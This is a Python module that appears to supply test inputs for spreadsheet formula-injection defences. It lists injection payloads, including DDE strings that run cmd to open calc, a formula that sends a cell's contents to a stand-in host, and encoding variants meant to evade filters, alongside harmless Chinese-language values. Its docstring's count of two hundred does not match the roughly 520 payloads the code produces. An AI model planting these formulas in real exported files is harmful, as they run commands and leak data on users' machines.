"""Texts that a spreadsheet program might run: two hundred of them, and what they are made of."""

from __future__ import annotations

from itertools import islice, product

TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
IN_FRONT = ("", " ", "\t", "\r", "\n", "\ufeff", "\u3000", "\u200b", "\xa0", "'", '"', "“", " \t'", "\x00")
BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example","点此")', "SUM(1;2)*A1", "2+5+cmd|' /C notepad'!A0")
SPECIAL = (
    '=DDE("cmd";"/C calc";"__DdeLink")', '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")', "@SUM(1+1)*cmd|' /C calc'!A0",
    '",=1+1,"', "a\n=1+1", "|calc", "%0A=1+1", "-2+3+cmd|' /C calc'!A0", "=1+1\x00", "_x003D_1+1", "=" * 40_000, "＝ＣＭＤ｜",
    "\ufeff\ufeff=1+1", "''=1+1", "'", "''", "=\u0000", "\x1b=1+1", "+86 138 0000 0000", "-",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    *SPECIAL,
    *islice((front + trigger + body for body, front, trigger in product(BODIES, IN_FRONT, TRIGGERS)), 500),
)
HARMLESS = (
    "杨家门社区",
    "𠮷田䶮",
    "阿依古丽·买买提",
    "330483…1234",
    "138****1234",
    "2012-10-23",
    "a=b",
    "是",
    "张三-李四",
    "3号楼",
    "—",
    "…",
)
